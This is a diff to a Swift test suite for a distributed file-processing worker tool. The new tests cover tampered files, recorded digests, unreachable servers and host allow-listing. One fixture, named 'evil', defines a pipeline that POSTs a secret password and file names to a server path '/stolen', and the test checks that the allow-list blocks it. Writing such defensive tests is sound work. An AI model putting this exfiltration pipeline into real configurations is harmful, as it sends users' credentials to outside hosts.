@@ -17,6 +17,20 @@ struct BadWorkerDatabaseTests {
     func restore(_ path: String) throws {
       try FileManager.default.moveItem(at: url("away"), to: url(path))
     }
+
+    /// Gives a file other bytes, and the same size.
+    func spoil(_ path: String) throws {
+      try Data(count: Data(contentsOf: url(path)).count).write(to: url(path))
+    }
+
+    /// Gives all files another time, as a copy without `-p` has.
+    func touch() throws {
+      for name in try FileManager.default.contentsOfDirectory(atPath: url("files").path) {
+        try FileManager.default.setAttributes(
+          [.modificationDate: Date(timeIntervalSince1970: 1_000_000_000)],
+          ofItemAtPath: url("files/" + name).path)
+      }
+    }
   }
 
   private func wishes(_ place: DatabasePlace) throws -> String {
@@ -57,6 +71,73 @@ struct BadWorkerDatabaseTests {
     let good = try await place.run("work", "--run", "nightly", "--until-done", "--state", "good")
     #expect(good.status == 0, "\(good)")
     place.checkAllDone()
+  }
+
+  @Test func `files with other times are left to others`() async throws {
+    let place = try await DatabasePlace()
+    try await place.create("--name", "nightly")
+    try Files(place: place).touch()
+    let bad = try await place.run("work", "--run", "nightly", "--until-done", "--state", "bad")
+    #expect(bad.status != 0, "\(bad)")
+    #expect(place.server.journal.filter { $0.event == "finalize" }.isEmpty)
+    let status = try await place.run("status", "nightly")
+    #expect(!status.output.contains("failed"), "\(status)")
+    #expect(status.output.contains("it was modified"), "\(status)")
+  }
+
+  @Test func `files with other times are sent if they have the digests that were recorded`()
+    async throws
+  {
+    let place = try await DatabasePlace()
+    try await place.create("--name", "nightly", "--record-digests")
+    try Files(place: place).spoil("files/file-0007.bin")
+    try Files(place: place).touch()
+    let worked = try await place.run("work", "--run", "nightly", "--until-done")
+    #expect(worked.status == 1, "\(worked)")
+    #expect(worked.output.contains("29 done, 1 paused"), "\(worked)")
+    place.checkAllDone(29)
+    #expect(!place.server.journal.contains { $0.name == "file-0007.bin" && $0.event == "finalize" })
+  }
+
+  @Test func `a worker without a route to the server leaves all shards to others at once`()
+    async throws
+  {
+    let place = try await DatabasePlace()
+    try await place.create("--name", "nightly", server: "http://server.invalid")
+    let bad = try place.start("work", "--progress", "plain", "--state", "bad")
+    try await bad.wait(for: "is left to other workers: server.invalid:80")
+    bad.signal(SIGTERM)
+    #expect(try await bad.outcome().status == 130)
+    let status = try await place.run("status", "nightly")
+    #expect(status.output.contains("4 waiting: 30 pending"), "\(status)")
+    #expect(status.output.contains("left to other workers by"), "\(status)")
+  }
+
+  @Test func `a worker's secrets go to the hosts only that it was told`() async throws {
+    let evil = """
+      pipeline: evil
+      inputs:
+        server: { type: url }
+        password: { type: secret }
+        photos: { type: files, default: "files/*" }
+      steps:
+        - for_each: photo
+          in: ${{ inputs.photos }}
+          steps:
+            - id: take
+              request:
+                method: POST
+                url: ${{ inputs.server + "/stolen" }}
+                json: { password: "${{ inputs.password }}", name: "${{ photo.name }}" }
+              effect: repeatable
+      """
+    let place = try await DatabasePlace(files: 2, definition: evil)
+    try await place.create("--name", "nightly")
+    let worked = try await place.run("work", "--until-done", "--allow-host", "photos.example.com")
+    #expect(worked.status == 0, "\(worked)")
+    #expect(place.server.requests == 0)
+    let explained = try await place.run("explain", "nightly")
+    #expect(explained.output.contains("--allow-host"), "\(explained)")
   }
 
   @Test func `a file that three workers lack has failed, and the report names them`() async throws {
